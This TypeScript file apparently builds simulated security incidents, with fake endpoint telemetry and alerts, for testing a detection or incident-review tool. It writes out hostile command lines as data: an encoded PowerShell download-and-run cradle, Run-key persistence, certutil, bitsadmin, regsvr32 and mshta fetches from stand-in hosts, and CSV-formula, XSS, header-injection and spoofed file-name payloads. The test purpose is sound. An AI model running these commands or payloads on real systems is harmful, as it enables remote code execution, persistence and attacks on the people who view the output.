import { fileOf } from '../images.ts'
import { evidence } from './evidence.ts'
import type { Story } from './story.ts'

/** A document starts an encoded script that calls home and stays by a Run key. */
export const encodedPowerShell: Story = {
  id: 'encoded-powershell',
  needs: ['endpoint'],
  isMalicious: true,
  tell(story) {
    const device = story.workstation()
    const user = device.owner
    const home = story.attackerIp()
    const document = fileOf(
      `Offer_${story.random.int(1000, 9999)}.docm`,
      `C:\\Users\\${user.name}\\Downloads`,
      story.inventory.profile.seed,
    )
    const word = story.running(
      device,
      'WINWORD.EXE',
      user,
      `"WINWORD.EXE" /n "${document.folder}\\${document.name}"`,
    )
    const script = `IEX (New-Object Net.WebClient).DownloadString('https://cdn.update-check.example/${story.random.hex(6)}')`
    const encoded = Buffer.from(script, 'utf16le').toString('base64')
    story.file(word, 'FileCreated', document, { FileOriginUrl: 'https://files.update-check.example/offer' })
    const shell = story.spawn(word, 'powershell.exe', `powershell.exe -nop -w hidden -enc ${encoded}`)
    story.deviceEvent(shell, 'PowerShellCommand', {}, { Command: 'IEX' })
    story.deviceEvent(shell, 'AmsiScriptDetection', {}, { Description: 'Suspicious script content' })
    story.connect(shell, home, 443, 'https://cdn.update-check.example/')
    story.alert({
      title: 'Suspicious encoded PowerShell command line',
      description:
        'An Office program started PowerShell with an encoded command that downloads and runs code.',
      severity: 'medium',
      category: 'Execution',
      techniques: ['T1059.001', 'T1204.002'],
      evidence: [
        evidence.device(device),
        evidence.user(user),
        evidence.process(shell),
        evidence.file(document, device),
        evidence.ip(home, 'NL', { role: 'destination' }),
      ],
    })
    const payload = fileOf('updsvc.exe', `C:\\Users\\${user.name}\\AppData\\Roaming`, story.random.int(0, 9))
    story.file(shell, 'FileCreated', payload)
    const key = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'
    story.registry(shell, key, 'UpdateService', `${payload.folder}\\${payload.name}`)
    const implant = story.spawn(shell, payload, `"${payload.folder}\\${payload.name}" -s`)
    story.connect(implant, home, 8443)
    story.alert({
      title: 'Anomaly detected in autostart registry',
      description: 'A program in a user profile was registered to start at every sign-in.',
      severity: 'medium',
      category: 'Persistence',
      techniques: ['T1547.001'],
      evidence: [
        evidence.device(device),
        evidence.registry(
          device,
          'HKEY_CURRENT_USER',
          key.slice(18),
          'UpdateService',
          `${payload.folder}\\${payload.name}`,
        ),
        evidence.file(payload, device),
      ],
    })
    // It goes on calling home while somebody looks at the alerts.
    for (let beacon = 0; beacon < 8; beacon++) {
      story.wait(300)
      story.connect(implant, home, 8443)
    }
    return {
      name: 'Multi-stage incident involving Execution & Persistence on one endpoint',
      systemTags: ['Command and control'],
    }
  },
}

/** Windows' own tools fetch and start what the attacker wants. */
export const livingOffTheLand: Story = {
  id: 'living-off-the-land',
  needs: ['endpoint'],
  isMalicious: true,
  tell(story) {
    const device = story.workstation()
    const user = device.owner
    const host = 'downloads.parcel-status.example'
    const shell = story.spawn(
      story.running(device, 'explorer.exe', user),
      'cmd.exe',
      'cmd.exe /c start-parcel.bat',
    )
    const fetch = story.spawn(
      shell,
      'certutil.exe',
      `certutil.exe -urlcache -split -f http://${host}/p.txt C:\\ProgramData\\p.dll`,
    )
    const ip = story.attackerIp()
    story.connect(fetch, ip, 80, `http://${host}/p.txt`)
    const library = fileOf('p.dll', 'C:\\ProgramData', story.inventory.profile.seed)
    story.file(fetch, 'FileCreated', library, { FileOriginUrl: `http://${host}/p.txt` })
    story.spawn(
      shell,
      'bitsadmin.exe',
      `bitsadmin.exe /transfer parcel /download /priority high http://${host}/q.txt C:\\ProgramData\\q.txt`,
    )
    const loader = story.spawn(shell, 'rundll32.exe', 'rundll32.exe C:\\ProgramData\\p.dll,Start')
    story.load(loader, library)
    story.connect(loader, ip, 443, `https://${host}/beacon`)
    story.spawn(shell, 'regsvr32.exe', `regsvr32.exe /s /n /u /i:http://${host}/file.sct scrobj.dll`)
    story.spawn(shell, 'mshta.exe', `mshta.exe http://${host}/page.hta`)
    story.alert({
      title: 'Suspicious file downloaded by a system utility',
      description:
        'A Windows utility that is not a downloader fetched a library, which was then started by rundll32.',
      severity: 'medium',
      category: 'DefenseEvasion',
      techniques: ['T1218.011', 'T1105', 'T1218.010', 'T1218.005'],
      evidence: [
        evidence.device(device),
        evidence.process(fetch),
        evidence.process(loader, { verdict: 'malicious' }),
        evidence.file(library, device),
        evidence.url(`http://${host}/p.txt`),
      ],
      investigation: 'pendingApproval',
    })
    return { name: 'Signed system programs used to run untrusted code on one endpoint' }
  },
}

/** The web server's process starts a shell. */
export const webShell: Story = {
  id: 'web-shell',
  needs: ['endpoint'],
  isMalicious: true,
  tell(story) {
    const device = story.server()
    const pool = {
      ...story.admin(),
      name: 'defaultapppool',
      domain: 'iis apppool',
      upn: '',
      objectId: '',
      sid: 'S-1-5-82-3006700770-1',
    }
    const worker = story.running(device, 'w3wp.exe', pool, 'w3wp.exe -ap "DefaultAppPool"')
    const page = fileOf('error404.aspx', 'C:\\inetpub\\wwwroot\\aspnet_client', story.random.int(0, 5))
    story.file(worker, 'FileCreated', page)
    const shell = story.spawn(worker, 'cmd.exe', 'cmd.exe /c whoami /all & ipconfig /all')
    story.spawn(shell, 'whoami.exe', 'whoami /all')
    story.spawn(shell, 'ipconfig.exe', 'ipconfig /all')
    const ip = story.attackerIp()
    story.connect(worker, ip, 443, '', 'InboundConnectionAccepted')
    story.alert({
      title: 'Possible web shell installation',
      description:
        'The web server wrote a script into its own folder and then started a command interpreter.',
      severity: 'high',
      category: 'Persistence',
      techniques: ['T1505.003', 'T1190', 'T1033'],
      evidence: [
        evidence.device(device),
        evidence.file(page, device),
        evidence.process(shell, { verdict: 'malicious' }),
        evidence.ip(ip, 'RO'),
      ],
    })
    return { name: 'Web shell on one server', systemTags: ['Critical asset'] }
  },
}

/** Names meant to break whoever prints them: pages, spreadsheets, terminals. */
export const hostileNames: Story = {
  id: 'hostile-names',
  needs: ['endpoint'],
  isMalicious: true,
  tell(story) {
    const device = story.workstation()
    const user = device.owner
    const folder = `C:\\Users\\${user.name}\\Downloads`
    const mail = story.running(device, 'OUTLOOK.EXE', user)
    const names = [
      `=cmd|'/c calc'!A1.csv`,
      '+HYPERLINK("http://198.51.100.7/","open").xlsx',
      '<script>alert(document.domain)<\u2215script>.html',
      'invoice_\u202Efdp.exe',
      `"quoted", 'twice'; -- \tand\ttabbed.txt`,
      'first line\r\nSet-Cookie: second=line.txt',
      'Grüße_данные_請求書_🧾.pdf',
      '@SUM(1+1)*cmd.iqy',
    ]
    const files = names.map(name => fileOf(name, folder, story.inventory.profile.seed))
    for (const file of files) story.file(mail, 'FileCreated', file)
    const opened = story.spawn(
      mail,
      fileOf('invoice_\u202Efdp.exe', folder, story.inventory.profile.seed),
      `"${folder}\\invoice_\u202Efdp.exe" "<img src=x onerror=alert(1)>"`,
    )
    story.alert({
      title: `<img src=x onerror="alert('alert title')"> & "deceptive" file names`,
      description:
        'Files whose names hide their type or hold script were written.\n\n<b>This text is from the attacker.</b>',
      severity: 'low',
      category: 'DefenseEvasion',
      techniques: ['T1036.002'],
      evidence: [
        evidence.device(device),
        evidence.user(user),
        evidence.process(opened),
        ...files.slice(0, 4).map(file => evidence.file(file, device)),
        evidence.url('javascript:alert(document.cookie)'),
      ],
    })
    return {
      name: `<script>alert('incident')</script> =HYPERLINK("http://198.51.100.7/") \u202Enoitcetni`,
      customTags: ['<b>bold</b>', '=1+1', 'a,b;"c"'],
    }
  },
}
